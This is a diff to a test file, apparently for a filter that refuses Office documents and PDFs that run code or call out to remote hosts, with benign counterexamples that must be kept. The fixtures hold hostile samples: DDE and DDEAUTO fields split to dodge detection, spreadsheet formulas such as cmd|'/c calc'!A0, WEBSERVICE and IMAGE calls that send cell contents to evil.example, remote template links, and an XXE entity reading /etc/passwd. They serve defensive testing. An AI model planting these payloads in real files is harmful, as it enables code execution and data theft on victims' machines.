@@ -48,6 +48,8 @@ END = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
 TEMPLATE = f'Type="{OFFICE}/attachedTemplate" Target="http://evil.example/a.dotm"'
 SETTINGS = "word/_rels/settings.xml.rels"
 BODY = "word/document.xml"
+SHEET = "xl/worksheets/sheet1.xml"
+LINK = f'<Relationship Id="rId9" Type="{OFFICE}/hyperlink" Target="http://evil.example/a" TargetMode="External"/>'
 
 ACTIVE = {
     "template": {SETTINGS: relations(f'<Relationship Id="a" {TEMPLATE} TargetMode="External"/>')},
@@ -129,7 +131,13 @@ ACTIVE = {
         BODY: document(f"{BEGIN}<w:r><w:delInstrText>DDEAUTO cmd</w:delInstrText></w:r>{END}")
     },
     "DDEAUTO, in a heading": {"word/header1.xml": document(field("DDEAUTO cmd"))},
-    "DDEAUTO, without an end": {BODY: document(f"{BEGIN}<w:r><w:instrText>DDE a b</w:instrText></w:r>{END}")},
+    "DDEAUTO, without an end": {
+        BODY: document(
+            f"{BEGIN}<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO a</w:instrText></w:r>"
+        )
+    },
+    "DDEAUTO, in parts of parts": {BODY: document(field("<w:a>D</w:a>DE<w:a/>AUTO cmd"))},
+    "DDEAUTO, with words between": {BODY: document(field("D<w:t>x</w:t>DE cmd"))},
     "text from elsewhere": {BODY: document(field(' INCLUDETEXT "http://evil.example/a.docx"'))},
     "picture by a drawing": {BODY: document('<v:imagedata src="file://evil/a.png"/>')},
     "document type": {BODY: b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'},
@@ -137,6 +145,79 @@ ACTIVE = {
         "xl/worksheets/sheet1.xml": b'<c><f>WEBSERVICE("http://evil/"&amp;A1)</f></c>'
     },
     "formula of another program": {"xl/worksheets/sheet1.xml": b"<c><f>cmd|'/c calc'!A0</f></c>"},
+    **{
+        f"formula: {text}": {SHEET: f"<c><f>{text}</f></c>".encode()}
+        for text in (
+            '_xlfn.IMAGE("http://evil/?"&amp;A1)',
+            "'cmd'|'/c calc'!A0",
+            'cmd|"/c calc"!A0',
+            "'a\"b'!A1+cmd|'/c calc'!A0+'c\"d'!A1",
+            "T[[a\"b]]+cmd|'/c calc'!A0+T[[c\"d]]",
+            "T[a'#]&amp;'S\"1'!A1&amp;cmd|'/c calc'!A0&amp;\"\"",
+            "'\\\\evil\\s\\[x.xlsx]S'!A1",
+            "'http://evil/[x.xlsx]S'!A1",
+            "'c:\\[x.xlsx]S'!A1",
+            'HYPERLINK("\\\\evil\\s","a")',
+            'HYPERLINK("file:///c:/calc.exe","a")',
+            'WEBSER<f/>VICE("http://evil")',
+            'WEB<x>a</x>SERVICE("http://evil")',
+            'DDE("soffice";"a";"b")',
+        )
+    },
+    **{
+        f"formula in {element}": {
+            "xl/a.xml": f"<a><{element}>WEBSERVICE(A1)</{element.split()[0]}></a>".encode()
+        }
+        for element in (
+            "formula",
+            "calculatedColumnFormula",
+            "totalsRowFormula",
+            "oldFormula",
+            "formula1",
+            "definedName",
+            "FmlaMacro",
+        )
+    },
+    "formula in a form's box": {"xl/a.xml": b"<formControlPr fmlaLink=\"cmd|'/c calc'!A0\"/>"},
+    "formula in a drawing": {"xl/a.xml": b'<sp textlink="IMAGE(A1)"/>'},
+    "formula under a formula": {
+        "xl/a.xml": b'<x14:formula1 xmlns:x14="a" xmlns:xm="b"><xm:f>RTD("a")</xm:f></x14:formula1>'
+    },
+    "name of a macro": {"xl/a.xml": b'<definedName xlm="1" name="a">A1</definedName>'},
+    "queries of the workbook": {
+        "customXml/item1.xml": '<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">AA</DataMashup>'.encode(
+            "utf-16"
+        )
+    },
+    "pivot of another database": {
+        "xl/a.xml": b'<pivotCacheDefinition><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>'
+    },
+    "connection that nothing leads to": {
+        "xl/connections.xml": b'<connections><connection id="1"><dbPr connection="a"/></connection></connections>'
+    },
+    "template, called a hyperlink": {
+        SETTINGS: relations(LINK),
+        "word/settings.xml": f'<w:settings xmlns:w="{W}" xmlns:r="{OFFICE}"><w:attachedTemplate r:id="rId9"/></w:settings>'.encode(),
+    },
+    "picture, called a hyperlink": {
+        "word/_rels/document.xml.rels": relations(LINK),
+        BODY: document(f'<a:blip xmlns:a="a" xmlns:r="{OFFICE}" r:link="rId9"/>'),
+    },
+    "background of a sheet, called a hyperlink": {
+        "xl/worksheets/_rels/Sheet1.xml.rels": relations(LINK),
+        SHEET: f'<a><picture xmlns:r="{OFFICE}" r:id="rId9"/></a>'.encode(),
+    },
+    "film from elsewhere": {BODY: document('<a:webVideoPr xmlns:a="a" embeddedHtml="&lt;iframe/&gt;"/>')},
+    "picture in a drawing of lines": {
+        "word/media/a.svg": b'<svg xmlns:x="a"><image x:href="http://evil/a.png"/></svg>'
+    },
+    "page by its name": {"word/a.htm": b"\0"},
+    "page by its type": {
+        "[Content_Types].xml": b'<Types><Default Extension="dat" ContentType="text/html"/></Types>'
+    },
+    "page by its content": {"word/a.dat": b"<html><body/></html>"},
+    "page as a message": {"word/a.dat": b"MIME-Version: 1.0\n\n<script>"},
+    "page in PostScript": {"word/media/image1.eps": b"%!PS-Adobe-3.0\nshowpage"},
     "link to another workbook": {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"},
     "queries when opened": {
         "xl/_rels/workbook.xml.rels": relations(
@@ -160,7 +241,20 @@ def test_an_office_file_that_runs_or_calls_out_is_refused(spelling: str) -> None
         {BODY: document(field(" PAGE ") + field(" DATE \\@ yyyy", " \\* MERGEFORMAT"))},
         {BODY: document(f"{BEGIN}<w:r><w:instrText> IF </w:instrText></w:r>{field(' PAGE ')}{END}")},
         {BODY: document("<w:r><w:t>请勿使用 DDEAUTO 域；TargetMode=&quot;External&quot;</w:t></w:r>")},
-        {"xl/worksheets/sheet1.xml": b'<c><f>IF(A1="a|b",SUM(B1:B9),CALLS)</f></c>'},
+        {SHEET: b'<c><f>IF(A1="a|b",SUM(B1:B9),CALLS)</f></c>'},
+        {SHEET: b"<c><f>'it''s'!A1/B1&amp;\"a//b\"&amp;T[[#This Row],[a]]</f></c>"},
+        {SHEET: '<c><f>HYPERLINK("#Sheet2!A1","看")&amp;HYPERLINK("https://gov.example/")</f></c>'.encode()},
+        {SHEET: b'<c><cfRule><formula>$A$1&gt;3</formula></cfRule><formula1>"a,b"</formula1><f/></c>'},
+        {"xl/a.xml": b'<a><cacheSource type="worksheet"/><sheetView showFormulas="1"/></a>'},
+        {BODY: document('<m:f xmlns:m="http://x/officeDocument/2006/math"><m:t>P(A|B)</m:t></m:f>')},
+        {
+            "word/_rels/document.xml.rels": relations(LINK),
+            BODY: document(
+                f'<w:hyperlink xmlns:r="{OFFICE}" r:id="rId9"/><a:hlinkClick xmlns:a="a" xmlns:r="{OFFICE}" r:id="rId9"/>'
+            ),
+            "word/header1.xml": document(f'<a:blip xmlns:a="a" xmlns:r="{OFFICE}" r:embed="rId9"/>'),
+        },
+        {"word/media/image1.png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", "xl/printerSettings/a.bin": b"a\0b\0"},
         {
             "word/_rels/document.xml.rels": relations(
                 f'<Relationship Id="a" Type="{OFFICE}/hyperlink" Target="mailto:a@gov.example" TargetMode="External"/>'
@@ -262,7 +356,11 @@ def test_a_pdf_with_a_link_to_click_and_a_page_to_begin_with_is_kept() -> None:
         [b"<</Type/Catalog/OpenAction<</S/GoTo/D[2 0 R/Fit]/Next[3 0 R]>>>>", b"<<>>", b"<</S/GoTo/D(a)>>"],
         [b"<</Type/Catalog/OpenAction(first)/URI<</Base(https://gov.example/)>>>>"],
         [b"<</Type/Catalog>>", b"<</S/URI/URI(mailto:a@gov.example)>>", b"<</S/URI/URI(tel:110)>>"],
-        [b"<</Type/Catalog>>", b"<</S/URI/URI(HTTPS://gov.example/%E5)>>", b"<</S/URI/URI(www.gov.example/a)>>"],
+        [
+            b"<</Type/Catalog>>",
+            b"<</S/URI/URI(HTTPS://gov.example/%E5)>>",
+            b"<</S/URI/URI(www.gov.example/a)>>",
+        ],
         [b"<</Type/Catalog>>", b"<</Type/StructElem/S/Reference/Ref[1 0 R]>>"],
     ],
 )
